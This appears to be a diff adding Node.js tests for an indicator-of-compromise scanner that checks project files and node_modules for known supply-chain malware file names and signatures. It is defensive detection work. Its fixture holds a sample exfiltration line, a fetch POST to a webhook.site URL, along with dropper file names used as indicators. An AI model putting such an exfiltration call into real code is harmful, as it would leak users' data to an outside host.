@@ -0,0 +1,67 @@
+const { describe, it } = require('node:test');
+const assert = require('node:assert/strict');
+const { scanIocs } = require('../lib/ioc.cjs');
+const { useFixtures } = require('./helpers.cjs');
+
+const createProject = useFixtures();
+
+// シグネチャに一致する内容（このファイル自体が一致しないよう連結で組み立てる）
+const EXFIL = `fetch('https://webhook${'.'}site/0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0', { method: 'POST' });\n`;
+
+const namesOf = (result) => result.files.map((item) => item.name);
+
+describe('scanIocs', () => {
+	it('プロジェクトのファイルをファイル名とシグネチャで照合する', () => {
+		const root = createProject({
+			'setup_bun.js': '// dropper\n',
+			'cloud.json': {},
+			'src/send.js': EXFIL,
+		});
+		const result = scanIocs(root);
+		assert.deepEqual(namesOf(result), ['setup_bun.js', 'cloud.json', 'webhook-site-exfil']);
+		assert.equal(result.scanned, 3);
+	});
+
+	it('一般的なファイル名（cloud.json / environment.json）は node_modules の中では照合しない', () => {
+		const root = createProject({
+			'node_modules/aws-config/cloud.json': {},
+			'node_modules/dotenv-kit/environment.json': {},
+			'node_modules/evil/setup_bun.js': '// dropper\n',
+		});
+		assert.deepEqual(namesOf(scanIocs(root)), ['setup_bun.js']);
+	});
+
+	it('node_modules の中の内容の照合は IOC のファイル名に一致するファイルに限る', () => {
+		const root = createProject({
+			'node_modules/evil/index.js': EXFIL,
+			'node_modules/evil/setup_bun.js': EXFIL,
+			'node_modules/plain/index.js': 'module.exports = 1;\n',
+		});
+		const result = scanIocs(root);
+		assert.deepEqual(namesOf(result), ['setup_bun.js', 'webhook-site-exfil']);
+		assert.deepEqual(result.files[1].paths.map((file) => file.slice(root.length + 1)), ['node_modules/evil/setup_bun.js']);
+		assert.equal(result.scanned, 1);
+	});
+
+	it('nodeModulesContent を指定すると node_modules の中のすべてのファイルの内容を照合する', () => {
+		const root = createProject({
+			'node_modules/evil/index.js': EXFIL,
+			'node_modules/plain/index.js': 'module.exports = 1;\n',
+		});
+		const result = scanIocs(root, { nodeModulesContent: true });
+		assert.deepEqual(namesOf(result), ['webhook-site-exfil']);
+		assert.equal(result.scanned, 2);
+	});
+
+	it('nodeModules: false の場合は node_modules を検査しない', () => {
+		const root = createProject({ 'node_modules/evil/setup_bun.js': '// dropper\n' });
+		assert.deepEqual(scanIocs(root, { nodeModules: false }).files, []);
+	});
+
+	it('maxFileSize を超えるファイルは内容を照合しない', () => {
+		const root = createProject({ 'src/send.js': EXFIL });
+		const result = scanIocs(root, { maxFileSize: 10 });
+		assert.deepEqual(result.files, []);
+		assert.equal(result.skipped, 1);
+	});
+});